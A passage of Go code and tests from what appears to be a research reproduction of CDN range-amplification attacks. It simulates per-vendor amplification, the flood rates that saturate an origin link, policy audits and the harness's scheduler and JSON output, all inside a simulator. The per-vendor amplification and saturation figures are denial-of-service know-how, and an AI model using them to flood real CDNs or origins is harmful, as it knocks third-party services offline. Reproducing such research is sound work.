	ResourceMB  int   // paper: 10
	DurationSec int   // paper: 30
	LinkMbps    int   // paper: 1000
	VendorName  string
}

// DefaultBandwidthConfig returns the paper's Fig 7 parameters.
func DefaultBandwidthConfig() BandwidthConfig {
	ms := make([]int, 15)
	for i := range ms {
		ms[i] = i + 1
	}
	return BandwidthConfig{Ms: ms, ResourceMB: 10, DurationSec: 30, LinkMbps: 1000, VendorName: "cloudflare"}
}

// Bandwidth calibrates one SBR request against the configured vendor,
// then replays the paper's fixed-rate flood at each m through the
// bandwidth simulator.
func Bandwidth(ctx context.Context, cfg BandwidthConfig) (fig7a, fig7b *report.Figure, err error) {
	return BandwidthEnv(ctx, nil, cfg)
}

// BandwidthEnv is Bandwidth reporting into an explicit runtime
// environment.
func BandwidthEnv(ctx context.Context, rt *Runtime, cfg BandwidthConfig) (fig7a, fig7b *report.Figure, err error) {
	p, ok := vendor.ByName(cfg.VendorName)
	if !ok {
		return nil, nil, fmt.Errorf("unknown vendor %q", cfg.VendorName)
	}
	if err := ctx.Err(); err != nil {
		return nil, nil, err
	}
	size := int64(cfg.ResourceMB) * core.MiB
	store := core.NewStoreWith(size)
	topo, err := core.NewSBRTopology(p.Clone(), store, core.SBROptions{OriginRangeSupport: true, Runtime: rt})
	if err != nil {
		return nil, nil, err
	}
	sbr, err := core.RunSBRContext(ctx, topo, core.TargetPath, size, "calibrate")
	topo.Close()
	if err != nil {
		return nil, nil, err
	}

	fig7a = &report.Figure{Title: "Fig 7a — incoming bandwidth of the client",
		Slug: "fig7a", XLabel: "time (s)", YLabel: "Kbps"}
	fig7b = &report.Figure{Title: "Fig 7b — outgoing bandwidth of the origin server",
		Slug: "fig7b", XLabel: "time (s)", YLabel: "Mbps"}
	for _, m := range cfg.Ms {
		samples := bwsim.Run(bwsim.Config{
			LinkBitsPerSec:        float64(cfg.LinkMbps) * 1e6,
			PerRequestOriginBytes: sbr.Amplification.VictimBytes,
			PerRequestClientBytes: sbr.Amplification.AttackerBytes,
			RequestsPerSecond:     m,
			DurationSec:           cfg.DurationSec,
		})
		name := "m=" + strconv.Itoa(m)
		var xs, client, originOut []float64
		for _, s := range samples {
			if s.Second >= cfg.DurationSec {
				break
			}
			xs = append(xs, float64(s.Second))
			client = append(client, s.ClientInKbps)
			originOut = append(originOut, s.OriginOutMbps)
		}
		fig7a.Series = append(fig7a.Series, report.Series{Name: name, X: xs, Y: client})
		fig7b.Series = append(fig7b.Series, report.Series{Name: name, X: xs, Y: originOut})
	}
	return fig7a, fig7b, nil
}

// BandwidthAll runs the Fig 7 calibration against every vendor in
// parallel and reports each vendor's per-request origin cost plus the
// request rate m that saturates the origin link.
func BandwidthAll(ctx context.Context, cfg BandwidthConfig, parallel int) (*report.Table, error) {
	return BandwidthAllEnv(ctx, nil, cfg, parallel)
}

// BandwidthAllEnv is BandwidthAll reporting into an explicit runtime
// environment.
func BandwidthAllEnv(ctx context.Context, rt *Runtime, cfg BandwidthConfig, parallel int) (*report.Table, error) {
	size := int64(cfg.ResourceMB) * core.MiB
	type cell struct {
		display          string
		victim, attacker int64
		saturatingM      int
		steady15         float64
	}
	cells, err := ForEachVendor(ctx, parallel, func(ctx context.Context, p *vendor.Profile) (cell, error) {
		if err := ctx.Err(); err != nil {
			return cell{}, err
		}
		store := core.NewStoreWith(size)
		topo, err := core.NewSBRTopology(p, store, core.SBROptions{OriginRangeSupport: true, Runtime: rt})
		if err != nil {
			return cell{}, err
		}
		if err := core.PrimeSizeHint(topo, core.TargetPath); err != nil {
			topo.Close()
			return cell{}, err
		}
		topo.ClientSeg.Reset()
		topo.OriginSeg.Reset()
		sbr, err := core.RunSBRContext(ctx, topo, core.TargetPath, size, "calibrate")
		topo.Close()
		if err != nil {
			return cell{}, fmt.Errorf("%s: %w", p.Name, err)
		}

		bwCfg := bwsim.Config{
			LinkBitsPerSec:        float64(cfg.LinkMbps) * 1e6,
			PerRequestOriginBytes: sbr.Amplification.VictimBytes,
			PerRequestClientBytes: sbr.Amplification.AttackerBytes,
			DurationSec:           cfg.DurationSec,
		}
		saturatingM := 0
		for m := 1; m <= 30; m++ {
			bwCfg.RequestsPerSecond = m
			if bwsim.Saturated(bwsim.Run(bwCfg), bwCfg, 0.97) {
				saturatingM = m
				break
			}
		}
		bwCfg.RequestsPerSecond = 15
		steady15 := bwsim.SteadyOriginMbps(bwsim.Run(bwCfg), cfg.DurationSec)
		return cell{
			display: p.DisplayName,
			victim:  sbr.Amplification.VictimBytes, attacker: sbr.Amplification.AttackerBytes,
			saturatingM: saturatingM, steady15: steady15,
		}, nil
	})
	if err != nil {
		return nil, err
	}
	tab := &report.Table{
		Title: "Fig 7 across all 13 CDNs — per-request origin cost and saturating m",
		Slug:  "bandwidth-all",
		Columns: []string{"CDN", "Origin Bytes/Request", "Client Bytes/Request",
			"Saturating m", "Steady Mbps @ m=15"},
	}
	for _, c := range cells {
		tab.AddRow(c.display,
			measure.FormatBytes(c.victim),
			measure.FormatBytes(c.attacker),
			strconv.Itoa(c.saturatingM),
			fmt.Sprintf("%.0f", c.steady15))
	}
	return tab, nil
}
