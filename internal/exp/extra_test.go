package exp

import (
	"strings"
	"testing"

	"repro/internal/vendor"
)

func TestCorpusAuditNoViolations(t *testing.T) {
	rep, err := CorpusAudit(testCtx, 7, 60, testParallel)
	if err != nil {
		t.Fatal(err)
	}
	if rep.Requests != 60*13 {
		t.Errorf("audited %d requests, want %d", rep.Requests, 60*13)
	}
	if len(rep.Violations) != 0 {
		t.Errorf("protocol violations: %v", rep.Violations)
	}
}

func TestCorpusAuditPolicyCensus(t *testing.T) {
	rep, err := CorpusAudit(testCtx, 11, 80, testParallel)
	if err != nil {
		t.Fatal(err)
	}
	// Pure-Deletion vendors never forward anything unchanged or expanded.
	for _, name := range []string{"Akamai", "Cloudflare", "Fastly", "G-Core Labs"} {
		counts := rep.PolicyCounts[name]
		if counts[vendor.Laziness] != 0 || counts[vendor.Expansion] != 0 {
			t.Errorf("%s census = %v, want all Deletion", name, counts)
		}
		if counts[vendor.Deletion] != 80 {
			t.Errorf("%s deletion count = %d", name, counts[vendor.Deletion])
		}
	}
	// CloudFront is the only Expansion vendor.
	for name, counts := range rep.PolicyCounts {
		if name != "CloudFront" && counts[vendor.Expansion] != 0 {
			t.Errorf("%s shows Expansion", name)
		}
	}
	if rep.PolicyCounts["CloudFront"][vendor.Expansion] == 0 {
		t.Error("CloudFront never expanded")
	}
	// Lazy-leaning vendors must show Laziness on the corpus.
	for _, name := range []string{"CDN77", "CDNsun", "KeyCDN"} {
		if rep.PolicyCounts[name][vendor.Laziness] == 0 {
			t.Errorf("%s never forwarded lazily", name)
		}
	}
}

func TestCorpusAuditDeterministic(t *testing.T) {
	a, err := CorpusAudit(testCtx, 3, 30, 1)
	if err != nil {
		t.Fatal(err)
	}
	b, err := CorpusAudit(testCtx, 3, 30, 8)
	if err != nil {
		t.Fatal(err)
	}
	for name, counts := range a.PolicyCounts {
		for policy, n := range counts {
			if b.PolicyCounts[name][policy] != n {
				t.Errorf("%s/%v: %d vs %d across parallel widths", name, policy, n, b.PolicyCounts[name][policy])
			}
		}
	}
	if strings.Join(a.Violations, "\n") != strings.Join(b.Violations, "\n") {
		t.Error("violation lists differ across parallel widths")
	}
}

func TestCorpusTableRenders(t *testing.T) {
	rep, err := CorpusAudit(testCtx, 5, 10, testParallel)
	if err != nil {
		t.Fatal(err)
	}
	var b strings.Builder
	if err := rep.Table().Render(&b); err != nil {
		t.Fatal(err)
	}
	if !strings.Contains(b.String(), "Akamai") || !strings.Contains(b.String(), "Violations") {
		t.Errorf("table output:\n%s", b.String())
	}
}

func TestBandwidthAllTable(t *testing.T) {
	if testing.Short() {
		t.Skip("13 calibration runs")
	}
	cfg := DefaultBandwidthConfig()
	cfg.ResourceMB = 10
	tab, err := BandwidthAll(testCtx, cfg, testParallel)
	if err != nil {
		t.Fatal(err)
	}
	if len(tab.Rows) != 13 {
		t.Fatalf("%d rows", len(tab.Rows))
	}
	var b strings.Builder
	if err := tab.Render(&b); err != nil {
		t.Fatal(err)
	}
	out := b.String()
	for _, want := range []string{"Akamai", "Saturating m", "KeyCDN"} {
		if !strings.Contains(out, want) {
			t.Errorf("table missing %q", want)
		}
	}
	// Every vendor's saturating m sits in the paper's 11-14 band (±1 for
	// Azure/CloudFront whose per-request cost differs).
	for _, row := range tab.Rows {
		m := row[3]
		if m == "0" {
			t.Errorf("%s never saturated", row[0])
		}
	}
}

func TestH2ComparisonTable(t *testing.T) {
	if testing.Short() {
		t.Skip("13-vendor double sweep")
	}
	tab, factors, err := H2Comparison(testCtx, 1, testParallel)
	if err != nil {
		t.Fatal(err)
	}
	if len(tab.Rows) != 13 || len(factors) != 13 {
		t.Fatalf("rows=%d factors=%d", len(tab.Rows), len(factors))
	}
	for name, f := range factors {
		if f[0] < 300 || f[1] < 300 {
			t.Errorf("%s: factors %v too small", name, f)
		}
		if f[1] < f[0]*0.95 {
			t.Errorf("%s: h2 factor %.0f markedly below h1 %.0f", name, f[1], f[0])
		}
	}
	var b strings.Builder
	if err := tab.Render(&b); err != nil {
		t.Fatal(err)
	}
	if !strings.Contains(b.String(), "HTTP/2 Factor") {
		t.Error("table header missing")
	}
}

func TestNodeTargeting(t *testing.T) {
	tab, shares, err := NodeTargeting(testCtx, 5, 20, 2)
	if err != nil {
		t.Fatal(err)
	}
	if len(tab.Rows) != 2 {
		t.Fatalf("%d rows", len(tab.Rows))
	}
	if tab.Rows[0][0] != "pinned" || tab.Rows[1][0] != "spread" {
		t.Errorf("row order: %q, %q", tab.Rows[0][0], tab.Rows[1][0])
	}
	if shares["pinned"] != 1.0 {
		t.Errorf("pinned share = %.2f, want 1.0", shares["pinned"])
	}
	if shares["spread"] > 0.25 {
		t.Errorf("spread share = %.2f, want ~0.20", shares["spread"])
	}
}

func TestNodeTargetingValidation(t *testing.T) {
	if _, _, err := NodeTargeting(testCtx, 1, 10, 1); err == nil {
		t.Error("single node accepted")
	}
	if _, _, err := NodeTargeting(testCtx, 5, 2, 1); err == nil {
		t.Error("too few requests accepted")
	}
}
