package exp

import (
	"context"
	"errors"
	"fmt"
	"sync"
	"sync/atomic"
	"testing"
	"time"

	"repro/internal/vendor"
)

func TestMapOrderedResults(t *testing.T) {
	for _, parallel := range []int{1, 2, 8, 100} {
		got, err := Map(context.Background(), parallel, 40, func(ctx context.Context, i int) (int, error) {
			return i * i, nil
		})
		if err != nil {
			t.Fatalf("parallel=%d: %v", parallel, err)
		}
		for i, v := range got {
			if v != i*i {
				t.Fatalf("parallel=%d: out[%d] = %d", parallel, i, v)
			}
		}
	}
}

func TestMapBoundedConcurrency(t *testing.T) {
	const parallel = 3
	var active, peak atomic.Int32
	_, err := Map(context.Background(), parallel, 24, func(ctx context.Context, i int) (struct{}, error) {
		n := active.Add(1)
		for {
			p := peak.Load()
			if n <= p || peak.CompareAndSwap(p, n) {
				break
			}
		}
		time.Sleep(time.Millisecond)
		active.Add(-1)
		return struct{}{}, nil
	})
	if err != nil {
		t.Fatal(err)
	}
	if p := peak.Load(); p > parallel {
		t.Errorf("observed %d concurrent cells, bound is %d", p, parallel)
	}
}

func TestMapLowestIndexErrorWins(t *testing.T) {
	boom3 := errors.New("boom3")
	boom7 := errors.New("boom7")
	var mu sync.Mutex
	started := map[int]bool{}
	_, err := Map(context.Background(), 4, 10, func(ctx context.Context, i int) (int, error) {
		mu.Lock()
		started[i] = true
		mu.Unlock()
		switch i {
		case 3:
			return 0, boom3
		case 7:
			return 0, boom7
		}
		return i, nil
	})
	if !errors.Is(err, boom3) {
		t.Errorf("got %v, want the lowest-index error", err)
	}
	mu.Lock()
	defer mu.Unlock()
	if !started[0] {
		t.Error("cell 0 never ran")
	}
}

func TestMapSerialStopsAtFirstError(t *testing.T) {
	calls := 0
	_, err := Map(context.Background(), 1, 10, func(ctx context.Context, i int) (int, error) {
		calls++
		if i == 2 {
			return 0, errors.New("stop")
		}
		return i, nil
	})
	if err == nil || calls != 3 {
		t.Errorf("err=%v calls=%d, want error after 3 calls", err, calls)
	}
}

func TestMapContextCancellationMidRun(t *testing.T) {
	ctx, cancel := context.WithCancel(context.Background())
	var ran atomic.Int32
	release := make(chan struct{})
	done := make(chan struct{})
	var err error
	go func() {
		defer close(done)
		_, err = Map(ctx, 2, 100, func(ctx context.Context, i int) (int, error) {
			ran.Add(1)
			select {
			case <-release:
			case <-ctx.Done():
				return 0, ctx.Err()
			}
			return i, nil
		})
	}()
	for ran.Load() < 2 {
		time.Sleep(time.Millisecond)
	}
	cancel()
	close(release)
	<-done
	if !errors.Is(err, context.Canceled) {
		t.Errorf("got %v, want context.Canceled", err)
	}
	if n := ran.Load(); n >= 100 {
		t.Errorf("all %d cells ran despite cancellation", n)
	}
}

func TestMapPreCancelled(t *testing.T) {
	ctx, cancel := context.WithCancel(context.Background())
	cancel()
	_, err := Map(ctx, 4, 5, func(ctx context.Context, i int) (int, error) {
		return i, nil
	})
	if !errors.Is(err, context.Canceled) {
		t.Errorf("got %v", err)
	}
}

func TestMapZeroItems(t *testing.T) {
	got, err := Map(context.Background(), 4, 0, func(ctx context.Context, i int) (int, error) {
		t.Fatal("fn called for n=0")
		return 0, nil
	})
	if err != nil || len(got) != 0 {
		t.Errorf("got %v, %v", got, err)
	}
}

func TestMapRunsEveryIndexExactlyOnce(t *testing.T) {
	counts := make([]atomic.Int32, 200)
	_, err := Map(context.Background(), 16, len(counts), func(ctx context.Context, i int) (int, error) {
		counts[i].Add(1)
		return i, nil
	})
	if err != nil {
		t.Fatal(err)
	}
	for i := range counts {
		if n := counts[i].Load(); n != 1 {
			t.Errorf("index %d ran %d times", i, n)
		}
	}
}

func TestForEachVendorPaperOrder(t *testing.T) {
	wantNames := vendor.Names()
	got, err := ForEachVendor(context.Background(), 8, func(ctx context.Context, p *vendor.Profile) (string, error) {
		return p.Name, nil
	})
	if err != nil {
		t.Fatal(err)
	}
	if len(got) != len(wantNames) {
		t.Fatalf("%d results for %d vendors", len(got), len(wantNames))
	}
	for i, name := range got {
		if name != wantNames[i] {
			t.Errorf("result %d = %q, want %q", i, name, wantNames[i])
		}
	}
}

func TestForEachVendorFreshProfiles(t *testing.T) {
	// Cells may mutate their profile without affecting other runs.
	_, err := ForEachVendor(context.Background(), 4, func(ctx context.Context, p *vendor.Profile) (struct{}, error) {
		p.Options.CloudflareBypass = true
		p.DisplayName = "mutated"
		return struct{}{}, nil
	})
	if err != nil {
		t.Fatal(err)
	}
	for _, p := range vendor.All() {
		if p.DisplayName == "mutated" || p.Options.CloudflareBypass {
			t.Fatalf("%s: mutation leaked into a fresh profile set", p.Name)
		}
	}
}

func TestMapErrorMessageStable(t *testing.T) {
	// Regardless of width, the error reaching the caller is the
	// lowest-index one, so wrapped messages stay deterministic.
	for _, parallel := range []int{1, 2, 8} {
		_, err := Map(context.Background(), parallel, 6, func(ctx context.Context, i int) (int, error) {
			if i >= 2 {
				return 0, fmt.Errorf("cell %d failed", i)
			}
			return i, nil
		})
		if err == nil || err.Error() != "cell 2 failed" {
			t.Errorf("parallel=%d: err = %v", parallel, err)
		}
	}
}
