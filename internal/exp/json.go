package exp

import (
	"encoding/json"
	"io"

	"repro/internal/metrics"
	"repro/internal/report"
)

// The report types render themselves as text and CSV but carry no JSON
// tags (their exported fields are their Go API). These DTOs pin the
// wire shape — lowercase keys, omitted empties — independently of the
// Go field names, so renaming a report field cannot silently change
// the machine-readable output.

type jsonSeries struct {
	Name string    `json:"name"`
	X    []float64 `json:"x"`
	Y    []float64 `json:"y"`
}

type jsonTable struct {
	Title   string     `json:"title"`
	Slug    string     `json:"slug"`
	Columns []string   `json:"columns"`
	Rows    [][]string `json:"rows"`
}

type jsonFigure struct {
	Title  string       `json:"title"`
	Slug   string       `json:"slug"`
	XLabel string       `json:"xlabel"`
	YLabel string       `json:"ylabel"`
	Series []jsonSeries `json:"series"`
}

type jsonResult struct {
	Experiment string           `json:"experiment,omitempty"`
	Tables     []jsonTable      `json:"tables,omitempty"`
	Figures    []jsonFigure     `json:"figures,omitempty"`
	Notes      []string         `json:"notes,omitempty"`
	Stats      []metrics.Sample `json:"stats,omitempty"`
}

func toJSONTable(t *report.Table) jsonTable {
	return jsonTable{Title: t.Title, Slug: t.FileSlug(), Columns: t.Columns, Rows: t.Rows}
}

func toJSONFigure(f *report.Figure) jsonFigure {
	out := jsonFigure{Title: f.Title, Slug: f.FileSlug(), XLabel: f.XLabel, YLabel: f.YLabel}
	for _, s := range f.Series {
		out.Series = append(out.Series, jsonSeries{Name: s.Name, X: s.X, Y: s.Y})
	}
	return out
}

// RenderJSON writes the result as one JSON object (newline-terminated,
// so per-experiment calls compose into JSON Lines).
func (r *Result) RenderJSON(w io.Writer) error { return r.RenderJSONNamed(w, "") }

// RenderJSONNamed is RenderJSON with an "experiment" field naming the
// run, the form cmd/rangeamp emits for -format json.
func (r *Result) RenderJSONNamed(w io.Writer, experiment string) error {
	out := jsonResult{Experiment: experiment, Notes: r.Notes, Stats: r.Stats.Samples()}
	for _, t := range r.Tables {
		out.Tables = append(out.Tables, toJSONTable(t))
	}
	for _, f := range r.Figures {
		out.Figures = append(out.Figures, toJSONFigure(f))
	}
	return json.NewEncoder(w).Encode(out)
}
