package exp

import (
	"context"
	"encoding/json"
	"strings"
	"testing"

	"repro/internal/metrics"
	"repro/internal/report"
)

// sumSeries totals a snapshot's samples for one metric name across all
// label combinations (e.g. cdn_requests_total over every vendor).
func sumSeries(s *metrics.Snapshot, name string) int64 {
	var total int64
	for _, sm := range s.Samples() {
		if sm.Name == name {
			total += sm.Value
		}
	}
	return total
}

func TestRunAttachesStats(t *testing.T) {
	res, err := Run(context.Background(), "sbr", Params{SizesMB: []int{1}, Parallel: 4})
	if err != nil {
		t.Fatal(err)
	}
	if res.Stats == nil {
		t.Fatal("Run left Stats nil")
	}
	if got := sumSeries(res.Stats, "cdn_requests_total"); got <= 0 {
		t.Errorf("stats delta shows %d edge requests for a full sweep", got)
	}
	if got := sumSeries(res.Stats, "netsim_segment_bytes_total"); got <= 0 {
		t.Errorf("stats delta shows %d bytes moved", got)
	}
}

// TestSchedulerCancellationObservedViaCounters pins the scheduler's
// cancellation contract at the metrics level: a run handed an already
// cancelled context must error out before any cell reaches an edge. The
// run is pinned to an explicit Runtime so its registry can be diffed
// even though the run itself fails before producing a Stats delta.
func TestSchedulerCancellationObservedViaCounters(t *testing.T) {
	ctx, cancel := context.WithCancel(context.Background())
	cancel()
	rt := NewRuntime()
	before := rt.Metrics.Snapshot()
	if _, err := Run(ctx, "sbr", Params{SizesMB: []int{1}, Parallel: 4, Runtime: rt}); err == nil {
		t.Fatal("cancelled run succeeded")
	}
	d := rt.Metrics.Snapshot().Delta(before)
	if got := sumSeries(d, "cdn_requests_total"); got != 0 {
		t.Errorf("cancelled run still drove %d edge requests", got)
	}
	if got := sumSeries(d, "cache_misses_total"); got != 0 {
		t.Errorf("cancelled run still did %d cache lookups", got)
	}
}

func TestRenderJSON(t *testing.T) {
	res := &Result{
		Tables: []*report.Table{{
			Title:   "Table X",
			Slug:    "tablex",
			Columns: []string{"CDN", "factor"},
			Rows:    [][]string{{"Cloudflare", "43"}},
		}},
		Figures: []*report.Figure{{
			Title: "Fig Y", Slug: "figy", XLabel: "MB", YLabel: "factor",
			Series: []report.Series{{Name: "CF", X: []float64{1}, Y: []float64{43}}},
		}},
		Notes: []string{"a note"},
	}
	var b strings.Builder
	if err := res.RenderJSONNamed(&b, "demo"); err != nil {
		t.Fatal(err)
	}
	out := b.String()
	if !strings.HasSuffix(out, "\n") || strings.Count(out, "\n") != 1 {
		t.Errorf("output is not one JSON line: %q", out)
	}
	var decoded struct {
		Experiment string `json:"experiment"`
		Tables     []struct {
			Title   string     `json:"title"`
			Slug    string     `json:"slug"`
			Columns []string   `json:"columns"`
			Rows    [][]string `json:"rows"`
		} `json:"tables"`
		Figures []struct {
			Slug   string `json:"slug"`
			Series []struct {
				Name string    `json:"name"`
				Y    []float64 `json:"y"`
			} `json:"series"`
		} `json:"figures"`
		Notes []string `json:"notes"`
	}
	if err := json.Unmarshal([]byte(out), &decoded); err != nil {
		t.Fatalf("invalid JSON: %v\n%s", err, out)
	}
	if decoded.Experiment != "demo" || len(decoded.Tables) != 1 || decoded.Tables[0].Slug != "tablex" {
		t.Errorf("decoded = %+v", decoded)
	}
	if len(decoded.Figures) != 1 || len(decoded.Figures[0].Series) != 1 || decoded.Figures[0].Series[0].Y[0] != 43 {
		t.Errorf("figures decoded = %+v", decoded.Figures)
	}
	if len(decoded.Notes) != 1 || decoded.Notes[0] != "a note" {
		t.Errorf("notes decoded = %v", decoded.Notes)
	}

	// The unnamed form omits the experiment key entirely.
	b.Reset()
	if err := res.RenderJSON(&b); err != nil {
		t.Fatal(err)
	}
	if strings.Contains(b.String(), `"experiment"`) {
		t.Errorf("unnamed render carries an experiment key: %s", b.String())
	}
}

func TestRenderJSONIncludesStats(t *testing.T) {
	res, err := Run(context.Background(), "table1", Params{Parallel: 4})
	if err != nil {
		t.Fatal(err)
	}
	var b strings.Builder
	if err := res.RenderJSONNamed(&b, "table1"); err != nil {
		t.Fatal(err)
	}
	var decoded struct {
		Stats []struct {
			Name   string `json:"name"`
			Labels []struct {
				Key   string `json:"key"`
				Value string `json:"value"`
			} `json:"labels"`
			Value int64 `json:"value"`
		} `json:"stats"`
	}
	if err := json.Unmarshal([]byte(b.String()), &decoded); err != nil {
		t.Fatalf("invalid JSON: %v", err)
	}
	if len(decoded.Stats) == 0 {
		t.Fatal("no stats in JSON output")
	}
}
