package exp

// The registry-vs-serial-seed equivalence suite. The golden files under
// testdata/golden were captured from the pre-registry serial
// implementation (`rangeamp -exp <name>`); every deterministic
// experiment must keep producing byte-identical text through the
// registry, serially and under a wide scheduler. The sbr sweep and the
// bandwidth-all calibration are excluded from byte goldens because the
// seed itself is nondeterministic in the Azure cells (the azure
// behaviour races an 8 MiB truncated fetch against origin writes);
// those two are checked serial-vs-parallel with Azure lines masked.

import (
	"context"
	"os"
	"path/filepath"
	"strings"
	"testing"
)

// goldenExperiments are the byte-deterministic registry names.
var goldenExperiments = []string{
	"table1", "table2", "table3", "obr", "bandwidth",
	"mitigation", "corpus", "cost", "h2", "nodes", "vtimeflood",
}

func renderOf(t *testing.T, name string, parallel int) string {
	t.Helper()
	res, err := Run(context.Background(), name, Params{Parallel: parallel})
	if err != nil {
		t.Fatal(err)
	}
	var b strings.Builder
	if err := res.Render(&b); err != nil {
		t.Fatal(err)
	}
	return b.String()
}

func TestGoldenSerialMatchesSeed(t *testing.T) {
	if testing.Short() {
		t.Skip("full experiment suite")
	}
	for _, name := range goldenExperiments {
		name := name
		t.Run(name, func(t *testing.T) {
			want, err := os.ReadFile(filepath.Join("testdata", "golden", name+".txt"))
			if err != nil {
				t.Fatal(err)
			}
			if got := renderOf(t, name, 1); got != string(want) {
				t.Errorf("serial output diverged from the seed golden (%d vs %d bytes)",
					len(got), len(want))
			}
		})
	}
}

func TestGoldenParallelMatchesSeed(t *testing.T) {
	if testing.Short() {
		t.Skip("full experiment suite")
	}
	for _, name := range goldenExperiments {
		name := name
		t.Run(name, func(t *testing.T) {
			want, err := os.ReadFile(filepath.Join("testdata", "golden", name+".txt"))
			if err != nil {
				t.Fatal(err)
			}
			if got := renderOf(t, name, 8); got != string(want) {
				t.Errorf("parallel=8 output diverged from the seed golden (%d vs %d bytes)",
					len(got), len(want))
			}
		})
	}
}

// TestSBRSweepParallelOrderDeterministic pins the sweep's row and
// series order across scheduler widths. It stays below Azure's 8 MiB
// truncation cutoff, where every cell (Azure included) is
// byte-deterministic, so the outputs must match exactly.
func TestSBRSweepParallelOrderDeterministic(t *testing.T) {
	render := func(parallel int) string {
		res, err := Run(context.Background(), "sbr", Params{SizesMB: []int{1, 4}, Parallel: parallel})
		if err != nil {
			t.Fatal(err)
		}
		var b strings.Builder
		if err := res.Render(&b); err != nil {
			t.Fatal(err)
		}
		return b.String()
	}
	serial := render(1)
	for _, parallel := range []int{4, 8} {
		if par := render(parallel); par != serial {
			t.Errorf("parallel=%d sbr output differs from serial", parallel)
		}
	}
}
