package exp

import "repro/internal/core"

// Runtime is the per-run execution environment (see core.Runtime): a
// registry, tracer, resource store and clock that one experiment run
// owns instead of sharing the process-wide defaults. exp.Run builds a
// fresh one per invocation unless Params.Runtime pins the run to an
// explicit environment.
type Runtime = core.Runtime

// NewRuntime returns a fully isolated environment for one run: fresh
// registry, disabled tracer, fresh resource store.
func NewRuntime() *Runtime { return core.NewRuntime() }
