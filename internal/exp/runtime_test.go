package exp

// Cross-run isolation tests for the per-run Runtime environment. Before
// runtimes existed every Run diffed metrics.Default, so two concurrent
// runs saw each other's traffic in their Stats deltas. With a fresh
// registry per run the delta must be bit-for-bit the run's own work, no
// matter what else the process is doing. Run under -race these tests
// also prove the hot path shares no mutable globals between runs.

import (
	"context"
	"strings"
	"sync"
	"testing"

	"repro/internal/metrics"
)

// statsKey renders a sample identity (name plus canonical labels) for
// map-based comparison, mirroring the snapshot's internal key.
func statsKey(s metrics.Sample) string {
	var b strings.Builder
	b.WriteString(s.Name)
	for _, l := range s.Labels {
		b.WriteByte('|')
		b.WriteString(l.Key)
		b.WriteByte('=')
		b.WriteString(l.Value)
	}
	return b.String()
}

// statsFingerprint flattens a Stats delta into comparable name→value
// pairs. Wall-clock histograms (any series with "duration" in the name)
// contribute only their observation count: their Sum and bucket
// occupancy depend on elapsed time, which concurrency legitimately
// changes. Everything else — byte counters, request counters, conn
// counters, size histograms — is deterministic and compared exactly,
// including histogram Sum and per-bucket occupancy.
func statsFingerprint(s *metrics.Snapshot) map[string]int64 {
	out := map[string]int64{}
	for _, sm := range s.Samples() {
		key := statsKey(sm)
		out[key] = sm.Value
		if strings.Contains(sm.Name, "duration") {
			continue
		}
		if sm.Sum != 0 {
			out[key+"|sum"] = sm.Sum
		}
		for i, b := range sm.Buckets {
			if b != 0 {
				out[key+"|bucket"+string(rune('0'+i))] = b
			}
		}
	}
	return out
}

func diffFingerprints(t *testing.T, label string, want, got map[string]int64) {
	t.Helper()
	for k, w := range want {
		if g, ok := got[k]; !ok || g != w {
			t.Errorf("%s: %s = %d, want %d", label, k, g, w)
		}
	}
	for k, g := range got {
		if _, ok := want[k]; !ok {
			t.Errorf("%s: unexpected series %s = %d", label, k, g)
		}
	}
}

// runOnce executes one experiment at Parallel 1 (internally serial, so
// every non-duration series is deterministic) and returns its Stats
// fingerprint.
func runOnce(t *testing.T, name string) map[string]int64 {
	t.Helper()
	res, err := Run(context.Background(), name, Params{SizesMB: []int{1}, Parallel: 1})
	if err != nil {
		t.Fatalf("%s: %v", name, err)
	}
	if res.Stats == nil {
		t.Fatalf("%s: Stats nil", name)
	}
	return statsFingerprint(res.Stats)
}

// TestConcurrentRunsIsolatedStats is the issue's acceptance test: two
// different experiments running concurrently each produce exactly the
// Stats delta they produce alone. With the old package-global registry
// the table1 delta would absorb table3's edge traffic and vice versa.
func TestConcurrentRunsIsolatedStats(t *testing.T) {
	names := []string{"table1", "table3"}
	want := map[string]map[string]int64{}
	for _, name := range names {
		want[name] = runOnce(t, name)
	}

	got := make([]map[string]int64, len(names))
	var wg sync.WaitGroup
	for i, name := range names {
		wg.Add(1)
		go func(i int, name string) {
			defer wg.Done()
			res, err := Run(context.Background(), name, Params{SizesMB: []int{1}, Parallel: 1})
			if err != nil {
				t.Errorf("%s: %v", name, err)
				return
			}
			got[i] = statsFingerprint(res.Stats)
		}(i, name)
	}
	wg.Wait()

	for i, name := range names {
		if got[i] == nil {
			continue // run already reported its error
		}
		diffFingerprints(t, name, want[name], got[i])
	}
}

// TestConcurrentSameExperimentIsolatedStats runs the same experiment
// twice at once. This is the sharpest form of the old cross-talk bug:
// identical label sets mean a shared registry would exactly double
// every counter in each run's delta.
func TestConcurrentSameExperimentIsolatedStats(t *testing.T) {
	want := runOnce(t, "sbr")

	const runs = 2
	got := make([]map[string]int64, runs)
	var wg sync.WaitGroup
	for i := 0; i < runs; i++ {
		wg.Add(1)
		go func(i int) {
			defer wg.Done()
			res, err := Run(context.Background(), "sbr", Params{SizesMB: []int{1}, Parallel: 1})
			if err != nil {
				t.Errorf("run %d: %v", i, err)
				return
			}
			got[i] = statsFingerprint(res.Stats)
		}(i)
	}
	wg.Wait()

	for i := range got {
		if got[i] == nil {
			continue
		}
		diffFingerprints(t, "run "+string(rune('0'+i)), want, got[i])
	}
}

// TestExplicitRuntimePinned checks the other side of the contract: a
// caller-supplied Runtime is used as-is, so two runs pinned to the same
// Runtime accumulate into one registry (the pre-refactor behaviour,
// now opt-in).
func TestExplicitRuntimePinned(t *testing.T) {
	rt := NewRuntime()
	before := rt.Metrics.Snapshot()
	for i := 0; i < 2; i++ {
		if _, err := Run(context.Background(), "sbr", Params{SizesMB: []int{1}, Parallel: 1, Runtime: rt}); err != nil {
			t.Fatal(err)
		}
	}
	d := rt.Metrics.Snapshot().Delta(before)
	first := sumSeries(d, "cdn_requests_total")
	if first <= 0 {
		t.Fatalf("pinned runtime accumulated %d edge requests over two runs", first)
	}
	// One more pinned run must keep growing the same registry: the
	// third run's contribution matches half of the first two.
	if _, err := Run(context.Background(), "sbr", Params{SizesMB: []int{1}, Parallel: 1, Runtime: rt}); err != nil {
		t.Fatal(err)
	}
	d = rt.Metrics.Snapshot().Delta(before)
	if got := sumSeries(d, "cdn_requests_total"); got != first+first/2 {
		t.Errorf("three pinned runs drove %d edge requests, want %d", got, first+first/2)
	}
}
