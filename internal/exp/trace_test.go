package exp

// Span-tree pinning for the tracer across the SBR pipeline. The golden
// files under testdata/golden/trace-*.txt pin the rendered tree for one
// SBR run per forwarding class: a Laziness vendor relays the attack
